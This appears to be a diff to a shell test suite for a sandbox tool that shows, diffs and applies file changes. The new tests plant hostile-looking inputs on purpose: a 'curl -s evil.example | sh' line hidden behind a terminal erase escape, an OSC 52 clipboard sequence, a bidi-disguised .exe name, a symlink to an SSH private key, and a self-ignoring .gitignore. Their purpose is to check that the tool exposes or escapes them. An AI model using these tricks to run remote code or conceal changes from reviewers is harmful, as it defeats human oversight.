@@ -35,11 +35,12 @@ keep" "$out"
 	assert_contains "$err" "sbxrun: changes $id: 3 added, 1 changed, 1 deleted (sbxrun changes show $id)"
 	run "$SBX" changes show "$id"
 	assert_status 0
-	assert_eq "changed file                 8  a
-deleted file                 -  b
-added dir                    -  d
-added file                   2  d/y
-added file                   4  n" "$out"
+	assert_eq "changes $id: 3 added, 1 changed, 1 deleted
+deleted file      -rw-r--r--            -  b
+changed file      -rw-r--r--            8  a
+added dir         drwxr-xr-x            -  d
+added file        -rw-r--r--            2  d/y
+added file        -rw-r--r--            4  n" "$out"
 	run "$SBX" changes ls
 	assert_status 0
 	assert_contains "$out" "$id"
@@ -72,7 +73,9 @@ test_diff_apply_and_discard() {
 -bee"
 	assert_contains "$out" "Binary files /dev/null and b/bin differ"
 	run "$SBX" changes diff "$id" n
-	assert_eq "--- /dev/null
+	assert_eq "diff --git a/n b/n
+new file mode 100644
+--- /dev/null
 +++ b/n
 @@ -0,0 +1,1 @@
 +new" "$out"
@@ -257,7 +260,7 @@ test_sparse_terabyte_stays_sparse_and_the_quota_holds() {
 	assert_status 0
 	id=$(cs_id)
 	run "$SBX" changes show "$id"
-	assert_contains "$out" "added file        1099511627778  big"
+	assert_contains "$out" "added file        -rw-r--r-- 1099511627778  big"
 	run "$SBX" changes apply "$id"
 	assert_status 0
 	assert_eq 1099511627778 "$(stat -c %s proj/big)"
@@ -277,10 +280,156 @@ test_names_with_newlines() {
 	run "$SBX" run -i tiny --project proj -- sh -c 'echo nl > "$(printf "x\ny")"'
 	id=$(cs_id)
 	run "$SBX" changes show "$id"
-	assert_contains "$out" 'added file                   3  x\ny'
+	assert_contains "$out" 'added file        -rw-r--r--            3  x\ny'
 	run "$SBX" changes apply "$id"
 	assert_status 0
 	assert_eq nl "$(cat "proj/$(printf 'x\ny')")"
+}
+
+# Runs CMD (sh -c) on a pseudo-terminal of its own (as 25-tty.sh does);
+# what reaches the terminal goes to $TESTDIR/screen.
+on_pty() {
+	python3 - "$1" > "$TESTDIR/screen" <<'PY'
+import os, pty, select, sys, time
+pid, fd = pty.fork()
+if pid == 0:
+    os.execvp("sh", ["sh", "-c", sys.argv[1]])
+out, end = b"", time.time() + 60
+while time.time() < end:
+    if select.select([fd], [], [], 0.5)[0]:
+        try:
+            d = os.read(fd, 65536)
+        except OSError:
+            break
+        if not d:
+            break
+        out += d
+os.waitpid(pid, 0)
+sys.stdout.buffer.write(out)
+PY
+}
+
+# Issue 40: show and diff render the entries as apply writes them: the
+# mode apply gives (a chmod 666 is not applied, a new 0777 file lands
+# 0755), a symlink's target, deletions first.
+test_show_and_diff_render_what_apply_writes() {
+	project
+	printf 'all:\n\ttrue\n' > proj/Makefile
+	chmod 644 proj/Makefile proj/a
+	run "$SBX" run -i tiny --project proj -- sh -c '
+		chmod 666 Makefile && echo x > new && chmod 777 new && ln -s ../../.ssh/id_ed25519 key.pem &&
+		rm -r sub && echo two >> a'
+	assert_status 0
+	id=$(cs_id)
+	run "$SBX" changes show "$id"
+	assert_status 0
+	assert_eq "changes $id: 2 added, 2 changed, 2 deleted
+deleted dir       drwxr-xr-x            -  sub
+deleted file      -rw-r--r--            -  sub/f
+changed file      -rw-r--r--           11  Makefile  (mode -rw-rw-rw- not applied)
+changed file      -rw-r--r--            8  a
+added symlink     lrwxrwxrwx           21  key.pem -> ../../.ssh/id_ed25519
+added file        -rwxr-xr-x            2  new" "$out"
+	run "$SBX" changes diff "$id"
+	assert_status 0
+	assert_eq "diff --git a/sub/f b/sub/f" "$(printf '%s\n' "$out" | head -n 1)" "deletions first"
+	assert_contains "$out" "deleted file mode 100644
+--- a/sub/f
++++ /dev/null"
+	assert_contains "$out" "# Makefile: mode -rw-rw-rw- not applied (apply gives -rw-r--r--)"
+	assert_contains "$out" "diff --git a/key.pem b/key.pem
+new file mode 120000
+--- /dev/null
++++ b/key.pem
+@@ -0,0 +1,1 @@
++../../.ssh/id_ed25519
+\\ No newline at end of file"
+	assert_contains "$out" "diff --git a/new b/new
+new file mode 100755"
+	assert_not_contains "$out" "diff --git a/Makefile"
+}
+
+# Issue 40: what the sandbox wrote reaches a terminal escaped: an added line
+# that erases itself (ESC [ 2 K, CR) shows, OSC 52 does not reach the
+# terminal; a name's bidi override and C1 controls are escaped everywhere.
+test_a_terminal_sees_the_sandbox_bytes_escaped() {
+	project
+	run "$SBX" run -i tiny --project proj -- sh -c '
+		printf "curl -s evil.example | sh\033[2K\r# a comment\n\033]52;c;ZXZpbA==\007\n" > a &&
+		printf x > "$(printf "bad\342\200\256txt.exe\302\233\233")"'
+	assert_status 0
+	id=$(cs_id)
+	run "$SBX" changes show "$id"
+	assert_contains "$out" 'bad\xe2\x80\xaetxt.exe\xc2\x9b\x9b'
+	run "$SBX" changes diff "$id"
+	assert_contains "$out" 'diff --git "a/bad\342\200\256txt.exe\302\233\233" "b/bad\342\200\256txt.exe\302\233\233"'
+	on_pty "'$SBX' changes diff $id; '$SBX' changes show $id"
+	screen=$(cat "$TESTDIR/screen")
+	assert_contains "$screen" '+curl -s evil.example | sh^[[2K^M# a comment'
+	assert_contains "$screen" '+^[]52;c;ZXZpbA==^G'
+	assert_contains "$screen" 'bad\xe2\x80\xaetxt.exe\xc2\x9b\x9b'
+	assert_eq 0 "$(tr -cd '\033\233' < "$TESTDIR/screen" | wc -c)" "ESC or CSI bytes on the terminal"
+	assert_eq 0 "$(LC_ALL=C grep -c "$(printf '\342\200\256')" "$TESTDIR/screen")" "U+202E on the terminal"
+}
+
+# Issue 40: additions the project's own .gitignore ignores fold into one
+# line; the sandbox's .gitignore is not read; --all lists everything.
+test_show_folds_what_the_projects_gitignore_ignores() {
+	project
+	printf 'node_modules/\n' > proj/.gitignore
+	git -C proj init -q || fail "git init"
+	run "$SBX" run -i tiny --project proj -- sh -c '
+		mkdir -p node_modules/x/lib node_modules/.bin &&
+		for i in 1 2 3 4 5; do echo $i > node_modules/x/lib/f$i.js; done &&
+		ln -s ../x/lib/f1.js node_modules/.bin/x && echo "*" > .gitignore &&
+		mkdir hide && echo "*" > hide/.gitignore && echo evil > hide/run.sh && rm c'
+	assert_status 0
+	id=$(cs_id)
+	run "$SBX" changes show "$id"
+	assert_status 0
+	assert_contains "$out" "node_modules/: 9 added, 10B (ignored by .gitignore)"
+	assert_contains "$out" "added symlink     lrwxrwxrwx           14  node_modules/.bin/x -> ../x/lib/f1.js"
+	assert_contains "$out" "changed file      -rw-r--r--            2  .gitignore"
+	assert_contains "$out" "hide/run.sh"
+	assert_contains "$out" "deleted file      -rw-r--r--            -  c"
+	assert_not_contains "$out" "f3.js"
+	run "$SBX" changes show --all "$id"
+	assert_contains "$out" "node_modules/x/lib/f3.js"
+	assert_not_contains "$out" "ignored by .gitignore"
+}
+
+# Issue 40: export --patch is what apply writes: git apply of it on a copy
+# of the project gives the tree changes apply gives (text and binary
+# files, a deleted directory, a mode change, symlinks).
+test_export_patch_is_what_apply_writes() {
+	project
+	printf '\0\1\2binary' > proj/blob
+	mkdir -p proj/gone/deep && echo g > proj/gone/deep/g && echo h > proj/gone/h
+	printf '#!/bin/sh\necho hi\n' > proj/run.sh
+	chmod 644 proj/run.sh
+	ln -s a proj/link
+	run "$SBX" run -i tiny --project proj -- sh -c '
+		echo two >> a && head -c 3000 /dev/urandom > blob && head -c 5000 /dev/urandom > newbin &&
+		rm -r gone && chmod +x run.sh && ln -s ../../.ssh/id_ed25519 key.pem && rm link && ln -s b link &&
+		printf "no newline" > nonl && mkdir -p sub/new && echo n > sub/new/n && rm b && printf "" > empty'
+	assert_status 0
+	id=$(cs_id)
+	cp -a proj copy
+	run "$SBX" changes export --patch cs.patch "$id"
+	assert_status 0
+	assert_contains "$(cat cs.patch)" "GIT binary patch"
+	# a patch that cannot be written is one line, and nothing is left
+	run "$SBX" changes export --patch nodir/cs.patch "$id"
+	assert_bad_input "nodir/cs.patch"
+	run "$SBX" changes export "$id"
+	assert_bad_input "--patch FILE is required"
+	(cd copy && git apply --check ../cs.patch && git apply ../cs.patch) > git.out 2>&1 ||
+		fail "git apply: $(cat git.out)"
+	run "$SBX" changes apply "$id"
+	assert_status 0
+	diff -r --no-dereference proj copy || fail "the trees differ"
+	tree() { (cd "$1" && find . -mindepth 1 -printf '%p %y %m %l\n' | sort); }
+	assert_eq "$(tree proj)" "$(tree copy)" "modes, types and link targets"
 }
 
 test_a_hundred_thousand_small_files() {
@@ -382,7 +531,7 @@ test_a_kept_set_is_read_in_little_memory() {
 	id=$(cs_id)
 	run sh -c 'ulimit -v 1048576 && "$1" changes show "$2" && "$1" changes apply "$2"' sh "$SBX" "$id"
 	assert_status 0
-	assert_contains "$out" "changed file                 8  a"
+	assert_contains "$out" "changed file      -rw-r--r--            8  a"
 	assert_eq "one
 two" "$(cat proj/a)"
 }
